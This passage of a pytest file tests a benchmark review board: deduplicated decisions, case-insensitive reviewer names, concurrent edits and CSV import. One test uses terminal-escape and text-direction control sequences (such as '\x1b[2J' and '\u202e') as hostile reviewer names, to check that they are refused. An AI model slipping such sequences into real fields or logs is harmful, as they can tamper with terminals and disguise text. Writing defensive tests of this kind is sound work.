    export_queue(run)  # the sheet, read to see what it holds before it is replaced, reads too
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8-sig")))
    assert rows[0]["text_as_edited"].strip() == long_text.strip()


def test_a_reviewer_name_or_a_removal_reason_holding_control_characters_is_refused(tmp_path, shared_data):
    # "\x1b[2J" as a name went into the store and the release rows, and raw into CHANGELOG.md (cat cleared the
    # terminal); the changelog now writes controls as escapes, and a name that holds one is refused outright
    from benchfill.release_carry import check_remove

    run = make_run(tmp_path, shared_data)
    with ReviewBoard(run, writable=True) as board:
        for name in ("\x1b[2J", "ann\x07", "bo\u202eb", "nul\x00", "two\u2028lines", "ma\u200frk"):
            with pytest.raises(BenchfillError, match="field 'reviewer' must be one short line of text"):
                board.decide(CHILD_IDS[0], name, "accept")
        assert board.decisions() == []
    with pytest.raises(ConfigError, match=r"remove: the reason for 'x' holds a control character \(removed by \\x1b\[2J\)"):
        check_remove({"x": "removed by \x1b[2J"})


def test_one_items_standing_read_alone_is_its_standing_in_the_whole_queue(tmp_path, shared_data):
    # An item page and a decision read one item's decisions only (outcome_of); the queue reads them all,
    # grouped by item once (outcomes). Both must count the same decisions: this run's, and another run's on
    # the child it reused ("X@run"), as a release does.
    run = make_run(tmp_path, shared_data)
    board = ReviewBoard(run, writable=True)
    board.decide(CHILD_IDS[0], "ann", "accept")
    board.decide(CHILD_IDS[0], "bob", "edit", text="Bob's text.")
    board.decide(CHILD_IDS[1], "ann", "accept")
    with board.store.session() as s:  # a run that reused CHILD_IDS[1] rejected it there
        s.add(ReviewDecision(run_id="other-run", item_id=f"{CHILD_IDS[1]}@{board.store.run_id}", reviewer="zed",
                             decision="reject", reason="key"))
    whole = board.outcomes()
    for e in board.entries:
        alone = board.outcome_of(e.item_id)
        assert (alone.status, alone.accepted_by, alone.rejected_by, alone.edited_fields, len(alone.decisions)) == (
            whole[e.item_id].status, whole[e.item_id].accepted_by, whole[e.item_id].rejected_by,
            whole[e.item_id].edited_fields, len(whole[e.item_id].decisions)), e.item_id
    assert whole[CHILD_IDS[1]].rejected_by == ["zed"] and whole[CHILD_IDS[0]].edited_by == "bob"
    with pytest.raises(DataError, match="is not in the review queue"):
        board.outcome_of("no-such-item")
    board.close()


def test_two_folders_on_one_store_cannot_both_edit_the_same_version(tmp_path, shared_data):
    # Two page servers on one run from two folders of one store (a team's machines on one PostgreSQL): the
    # folder's lock did not see the other folder, and both edits of one version landed. Here the second
    # folder reaches the first's database through a link, as a second machine reaches the same server.
    import shutil
    import threading

    from benchfill.review.board import Changed

    run = make_run(tmp_path, shared_data)
    other = tmp_path / "elsewhere" / run.name
    shutil.copytree(run, other, ignore=shutil.ignore_patterns("store.db*"))
    (other / "store.db").symlink_to(run / "store.db")
    item = CHILD_IDS[0]
    a, b = ReviewBoard(run, writable=True), ReviewBoard(other, writable=True)
    seen = a.version(item)
    assert b.version(item) == seen
    read = _held_between_check_and_write(a)
    results: dict[str, object] = {}

    def decide_a():
        results["alice"] = a.decide(item, "alice", "edit", text="Alice's text.", seen=seen)

    t = threading.Thread(target=decide_a)
    t.start()
    assert read.wait(10)
    with pytest.raises(Changed, match="the edit by alice is now the one in force"):
        b.decide(item, "bob", "edit", text="Bob's text.", seen=seen)
    t.join(10)
    a.close()
    with b:
        assert [d.reviewer for d in b.decisions(item)] == ["alice"]


def test_the_items_latest_decision_posted_again_is_recorded_once(tmp_path, shared_data):
    # ten posts of one accept (a retry, a second tab) had made ten rows, each listed in the release's reviews
    run = make_run(tmp_path, shared_data)
    item = CHILD_IDS[0]
    with ReviewBoard(run, writable=True) as board:
        first = board.decide(item, "alice", "accept")
        assert board.decide(item, "alice", "accept").id == first.id
        board.decide(item, "alice", "reject", "wrong key")
        board.decide(item, "alice", "reject", "wrong key")
        board.decide(item, "carol", "reject", "ambiguous")
        board.decide(item, "alice", "reject", "wrong key")  # alice's latest, and no edit since: the same
        board.decide(item, "bob", "edit", text="Bob's text.")
        board.decide(item, "alice", "reject", "wrong key")  # after bob's edit: of the new version, recorded
        board.decide(item, "bob", "edit", text="Bob's text.")  # his latest, the version his own: once
        assert [(d.reviewer, d.decision) for d in board.decisions(item)] == [
            ("alice", "accept"), ("alice", "reject"), ("carol", "reject"), ("bob", "edit"), ("alice", "reject")]


def test_an_accept_counts_for_the_version_it_was_given_on():
    fix = json.dumps({"problem": "fixed", "answer": "78"})
    # the editor accepts after their own edit (page: e, Ctrl+Enter, then a): the edit is what they accept
    res = outcome("x", [_d("carol", "edit", 0, edited_json=fix), _d("carol", "accept", 1)], ReleaseRule(1, 0))
    assert res.released and res.accepted_by == ["carol"] and res.edited_fields == json.loads(fix)
    # bob accepted alice's edit; alice withdraws it: the proposal stands again, which nobody accepted
    ds = [_d("alice", "edit", 0, edited_json=fix), _d("bob", "accept", 1), _d("alice", "withdraw", 2)]
    res = outcome("x", ds, ReleaseRule(1, 0))
    assert res.status == "pending" and res.accepted_by == [] and res.edited_fields is None
    # ann accepted the proposal before the edit: once the edit is withdrawn, hers counts again
    res = outcome("x", [_d("ann", "accept", 0), *ds], ReleaseRule(1, 0))
    assert res.released and res.accepted_by == ["ann"] and res.edited_fields is None
    # an accept of dee's later edit does not carry over to bob's earlier one when dee withdraws
    newer = json.dumps({"problem": "newer"})
    ds = [_d("bob", "edit", 0, edited_json=fix), _d("dee", "edit", 1, edited_json=newer), _d("cy", "accept", 2),
          _d("dee", "withdraw", 3)]  # fmt: skip
    res = outcome("x", ds, ReleaseRule(2, 0))
    assert res.status == "pending" and res.accepted_by == ["bob"] and res.edited_fields == json.loads(fix)
    # a reject by the editor takes their edit out of force
    res = outcome("x", [_d("ann", "accept", 0), _d("bob", "edit", 1, edited_json=fix), _d("bob", "reject", 2, reason="no")],
                  ReleaseRule(1, 1))  # fmt: skip
    assert res.released and res.accepted_by == ["ann"] and res.edited_fields is None and res.rejected_by == ["bob"]


def test_one_reviewer_under_names_of_other_case_or_spacing_is_one_vote():
    ds = [_d("alice", "accept", 0), _d("Alice ", "accept", 1), _d("ALICE", "accept", 2), _d("al  ice", "accept", 3)]
    res = outcome("x", ds, ReleaseRule(3, 0))  # "al  ice" is another name ("al ice"), not alice spaced out
    assert res.status == "pending" and res.accepted_by == ["ALICE", "al  ice"]
    res = outcome("x", [*ds, _d("Alice", "withdraw", 4)], ReleaseRule(1, 0))
    assert res.accepted_by == ["al  ice"]


def test_an_edit_made_then_accepted_by_its_author_ships_edited(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    with ReviewBoard(run, writable=True) as board:
        item = CHILD_IDS[0]
        board.decide(item, "carol", "edit", answer="78")
        board.decide(item, "Carol", "accept", seen=board.version(item))
        res = board.outcome_of(item)
        assert res.released and res.accepted_by == ["Carol"] and str(res.edited_fields[board.entry(item).answer_field]) == "78"
        # a colleague's edit back to the proposal's answer is a change of the item as it stands
        proposed = board.entry(item).child[board.entry(item).answer_field]
        board.decide(item, "bob", "edit", answer=str(proposed))
        assert board.standing(item)[board.entry(item).answer_field] == proposed
        # and an edit that restates the edit in force is not one (accept it instead)
        with pytest.raises(BenchfillError, match="neither text, answer nor options of the item as it stands"):
            board.decide(item, "dee", "edit", answer=str(proposed))
        # withdrawing needs a decision of one's own, whatever the name's case
        board.decide(item, "CAROL", "withdraw")


def test_a_sheet_row_under_another_case_of_a_name_cannot_undo_a_later_page_decision(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    export_queue(run, tmp_path / "rev")
    sheet = tmp_path / "rev" / "review_queue.csv"
    with sheet.open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    rows[0].update(reviewer="Alice", decision="accept")
    with sheet.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    with ReviewBoard(run, writable=True) as b:  # after the export, alice rejects on the page
        b.decide(rows[0]["item_id"], "alice", "reject", reason="the key is wrong")
    with pytest.raises(DataError, match="would undo that"):
        import_decisions(run, sheet)
    with ReviewBoard(run) as b:
        assert b.outcome_of(rows[0]["item_id"]).status == "rejected"


def test_an_accept_given_again_where_the_item_changed_is_recorded(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    item = CHILD_IDS[0]
    with ReviewBoard(run, writable=True, rule=ReleaseRule(2, 1)) as b:
        b.decide(item, "bob", "edit", answer="78")
        b.decide(item, "alice", "accept", seen=b.version(item))
        b.decide(item, "bob", "reject", reason="my edit was wrong")  # his edit out of force: alice's accept with it
        assert b.outcome_of(item).accepted_by == []
        b.decide(item, "bob", "accept", seen=b.version(item))
        again = b.decide(item, "alice", "accept", seen=b.version(item))  # had returned her old row, recording nothing
        assert again.id != b.decisions(item)[1].id
        assert b.outcome_of(item).accepted_by == ["alice", "bob"]
        # the same accept once more, nothing changed: recorded once
        assert b.decide(item, "alice", "accept", seen=b.version(item)).id == again.id


def test_a_sheet_that_restates_ones_own_edit_imports_again_after_a_page_accept_under_another_case(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    sheet, _ = _sheet(run, tmp_path, r0={"reviewer": "alice", "decision": "edit", "edited_answer": "78"})
    assert import_decisions(run, sheet) == 1
    with ReviewBoard(run, writable=True) as b:
        item = b.entries[0].item_id
        b.decide(item, "ALICE", "accept", seen=b.version(item))  # her accept keeps her edit
    assert import_decisions(run, sheet) == 0  # the same sheet again: her own edit, still in force
    with ReviewBoard(run) as b:
        o = b.outcome_of(item)
        assert o.released and o.edited_by == "alice" and str(o.edited_fields["answer"]) == "78"
    # nothing in it is left to import: a fresh export may replace it where it lies
    sheet.replace(sheet.parent / "export-filled.csv" / "review_queue.csv")
    export_queue(run, sheet.parent / "export-filled.csv")


def test_two_rows_of_one_reviewer_under_two_cases_of_the_name_are_refused(tmp_path, shared_data):
    run = make_run(tmp_path, shared_data)
    sheet, rows = _sheet(run, tmp_path, r0={"reviewer": "alice", "decision": "accept"})
    rows.append({**rows[0], "reviewer": "Alice", "decision": "reject", "reason": "no"})
    with sheet.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    with pytest.raises(DataError, match="a second decision by Alice on"):
        import_decisions(run, sheet)
